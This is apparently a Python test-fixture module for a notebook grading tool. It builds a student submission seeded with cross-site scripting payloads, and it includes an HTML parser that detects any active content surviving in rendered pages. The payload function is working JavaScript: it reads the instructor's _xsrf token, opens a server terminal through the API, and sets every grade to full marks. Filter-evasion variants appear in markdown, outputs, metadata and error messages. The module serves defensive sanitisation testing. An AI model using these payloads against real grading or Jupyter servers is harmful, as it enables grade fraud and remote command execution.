"""Learner-made active content for the HTML-safety tests, and a parser that finds any that survived.

* ``hostile_notebook(beacon)``: a notebook as the grader could write it, every place a
  learner controls holding active content: written answers with ``<script>``, ``<img
  onerror>``, ``<svg onload>``, ``<iframe>``, ``javascript:`` links (plain, entity-encoded,
  with a tab inside, in MathJax's ``\\href``), an HTML comment browsers end early; rich
  outputs of type ``text/html`` (with a script), ``application/javascript``,
  ``image/svg+xml``, a widget view, a PNG whose ``width`` metadata leaves its attribute and
  one whose data does; an exception message holding HTML; cell tags that leave their
  attribute and a flag that hides a cell's source; the notebook's ``title`` and widget
  state. Every script it holds would mark the page (``data-pwned`` on ``<html>``) and load
  ``beacon``.
* ``active_content(page, baseline)``: every script, event-handler attribute,
  ``javascript:`` URL and ``iframe``/``object``/``embed``/``svg`` of ``page`` that the
  template's own page (``baseline``, the same template rendering an empty notebook) does
  not have; ``visible_text(page)``: the text a person reads.
* ``build_hostile_class(root, beacon)``: a real course (the compatibility course of
  ``fixtures/grading/compat_course``) with two students: alice, honest (her answers as in
  ``compat_students``), and mallory, whose submission carries the same kinds of active
  content where a submission can: her written answers, what her code displays, the message
  of the exception her answer raises, her notebook's kernelspec name.
"""

from __future__ import annotations

import copy
import shutil
from html.parser import HTMLParser
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

# a 1x1 PNG: the plot that must still show
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
MARK = "data-pwned"


def payload(beacon: str, how: str) -> str:
    """JavaScript that marks the page, loads ``beacon``, then does what the real attack did.

    With the instructor's cookie and ``_xsrf`` token: full marks on every grade of the
    submission shown (the formgrader's grade API), and a terminal (the server's API).
    """
    return (
        f"document.documentElement.setAttribute('{MARK}','{how}');"
        f"new Image().src='{beacon}?{how}';"
        "var h={'X-XSRFToken':decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||''),"
        "'Content-Type':'application/json'};"
        "fetch('/api/terminals',{method:'POST',headers:h});"
        "if(window.submission_id){fetch('/formgrader/api/grades?submission_id='+submission_id)"
        ".then(r=>r.json()).then(g=>g.forEach(e=>fetch('/formgrader/api/grade/'+e.id,"
        "{method:'PUT',headers:h,body:JSON.stringify({manual_score:e.max_score})})))}"
    )


def written_answer(beacon: str) -> str:
    """A written answer (markdown) with every kind of active markup, and honest text around it."""
    return (
        "My answer: y is x plus three.\n\n"
        f"<script>{payload(beacon, 'script')}</script>\n\n"
        f'<img src=x onerror="{payload(beacon, "img")}">\n\n'
        f'<svg onload="{payload(beacon, "svg")}"></svg>\n\n'
        f'<iframe src="javascript:{payload(beacon, "iframe")}"></iframe>\n\n'
        "[click me](javascript:alert(document.domain)) "
        "[tab](java\tscript:alert(1)) <a href='jav&#x61;script:alert(1)'>entity</a> "
        "$\\href{javascript:alert(1)}{math}$\n\n"
        f'<!--><img src=x onerror="{payload(beacon, "comment")}">-->'
    )


def hostile_code_outputs(beacon: str) -> str:
    """A code cell of the learner's that displays active content (and a PNG plot)."""
    html = f"<b>bold</b><script>{payload(beacon, 'html-output')}</script>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{payload(beacon, "svg-output")}"/>'
    return (
        "import base64\n"
        "from IPython.display import HTML, SVG, Image, Javascript, display\n"
        f"display(HTML({html!r}))\n"
        f"display(Javascript({payload(beacon, 'js-output')!r}))\n"
        f"display(SVG({svg!r}))\n"
        f"display(Image(data=base64.b64decode({PNG!r}), format='png'))\n"
    )


def error_message(beacon: str) -> str:
    return f'<img src=x onerror="{payload(beacon, "error")}">'


def kernel_name(beacon: str) -> str:
    return f'evil`<img src=x onerror="{payload(beacon, "kernel")}">`'


def hostile_notebook(beacon: str = "http://127.0.0.1:9/beacon") -> NotebookNode:
    """The corpus as one notebook, as a grader would write it (outputs included); see the module docstring."""
    outputs = [
        new_output(
            "display_data",
            data={
                "text/html": f"<b>bold</b><script>{payload(beacon, 'html-output')}</script>",
                "text/plain": "<IPython.core.display.HTML object>",
            },
        ),
        new_output(
            "display_data",
            data={
                "application/javascript": payload(beacon, "js-output"),
                "text/plain": "<IPython.core.display.Javascript object>",
            },
        ),
        new_output("display_data", data={"text/javascript": payload(beacon, "text-js")}),
        new_output("display_data", data={"image/svg+xml": f'<svg onload="{payload(beacon, "svg-output")}"/>'}),
        new_output(
            "display_data",
            data={"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}, "text/plain": "w"},
        ),
        new_output(
            "display_data",
            data={"image/png": PNG, "text/plain": "<Figure size 1x1>"},
            metadata={"image/png": {"width": f'1 onerror="{payload(beacon, "png-width")}"'}},
        ),
        new_output("display_data", data={"image/png": f'x" onerror="{payload(beacon, "png-data")}', "text/plain": "f"}),
        new_output("display_data", data={"text/markdown": f'<img src=x onerror="{payload(beacon, "md-output")}">'}),
        new_output(
            "error",
            ename="ValueError",
            evalue=error_message(beacon),
            traceback=[f"ValueError: {error_message(beacon)}"],
        ),
        new_output("stream", name="stdout", text=f"<script>{payload(beacon, 'stream')}</script>\n"),
    ]
    cells = [
        new_markdown_cell("# Problem set 1\n\nThe *instructor's* text, with `code`, a [link](https://example.org)."),
        new_markdown_cell(written_answer(beacon), metadata={"nbgrader": {"grade_id": "q1_answer", "solution": True}}),
        new_code_cell(
            hostile_code_outputs(beacon),
            outputs=outputs,
            execution_count=3,
            metadata={"tags": ['x" onmouseover="alert(document.domain)'], "transient": {"remove_source": True}},
        ),
    ]
    nb = new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["title"] = f"</title><script>{payload(beacon, 'title')}</script>"
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "x": f"</script><script>{payload(beacon, 'w')}"}
    }
    return nb


_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "background", "poster"}
_EMBEDDING = {"iframe", "frame", "object", "embed", "svg", "math", "base", "meta", "link", "form"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.text: list[str] = []
        self._script: list[str] | None = None
        self._skip = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self._script = [f"script src={dict(attrs).get('src')}:"]
        if tag in ("script", "style"):
            self._skip += 1
        if tag in _EMBEDDING:
            self.found.append(f"<{tag} {' '.join(f'{k}={v}' for k, v in attrs)}>")
        for name, value in attrs:
            compact = "".join((value or "").split()).lower()
            script_url = name in _URL_ATTRIBUTES and compact.startswith(("javascript:", "vbscript:", "data:text/html"))
            if name.startswith("on") or script_url:
                self.found.append(f"<{tag} {name}={value}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag in ("script", "style"):
            self.handle_endtag(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            self.found.append("".join(self._script).strip())
            self._script = None
        if tag in ("script", "style") and self._skip:
            self._skip -= 1

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script.append(data)
        elif not self._skip:
            self.text.append(data)


def _collect(page: str) -> _Collector:
    collector = _Collector()
    collector.feed(page)
    collector.close()
    return collector


def active_content(page: str, baseline: str) -> list[str]:
    """The scripts, handlers, script URLs and embedding elements of ``page`` that ``baseline`` does not have."""
    ours = _collect(baseline).found
    found = []
    for item in _collect(page).found:
        if item in ours:
            ours.remove(item)
        else:
            found.append(item)
    return found


def visible_text(page: str) -> str:
    """The page's text as a person reads it (scripts and styles left out), white space squeezed."""
    return " ".join("".join(_collect(page).text).split())


def build_hostile_class(root: Path, beacon: str) -> dict:
    """The compatibility course, released, with alice's and mallory's submissions collected (not graded).

    Returns ``{"course": Course, "inbox": Path}``.
    """
    from grading.collect import collect
    from grading.coursedir import Course
    from grading.release import release
    from tests.fixtures.grading import compat_students as students

    course = Course(root / "course")
    shutil.copytree(students.COURSE, course.root)
    release(course, duedate=students.DUE)
    released = course.folder("release", students.ASSIGNMENT)
    problems = nbformat.read(released / "problems.ipynb", as_version=4)
    essay = nbformat.read(released / "essay.ipynb", as_version=4)
    inbox = root / "inbox"
    alice = students.STUDENTS["alice"](copy.deepcopy(problems), copy.deepcopy(essay))
    mallory = _mallory(copy.deepcopy(problems), copy.deepcopy(essay), beacon)
    for student, files in (("alice", alice), ("mallory", mallory)):
        folder = inbox / student / students.ASSIGNMENT
        folder.mkdir(parents=True)
        for name, data in files.items():
            (folder / name).write_bytes(data)
        (folder / "timestamp.txt").write_text(students.STAMPS["alice"])
    collect(course, inbox)
    return {"course": course, "inbox": inbox}


def _cell(nb: NotebookNode, grade_id: str) -> NotebookNode:
    return next(c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


def _mallory(problems: NotebookNode, essay: NotebookNode, beacon: str) -> dict[str, bytes]:
    _cell(essay, "q1_answer").source = written_answer(beacon)
    _cell(essay, "q2_answer").source = "A scatter plot of $y$ against $x$, with `y = x` for reference."
    essay.cells.append(new_code_cell(hostile_code_outputs(beacon)))
    essay.metadata["kernelspec"] = {"name": kernel_name(beacon), "display_name": "Python 3", "language": "python"}
    count = _cell(problems, "count_words")
    head = count.source.split("# YOUR CODE HERE")[0].rstrip(" ")
    count.source = head + f"    raise ValueError({error_message(beacon)!r})"
    return {"problems.ipynb": nbformat.writes(problems).encode(), "essay.ipynb": nbformat.writes(essay).encode()}
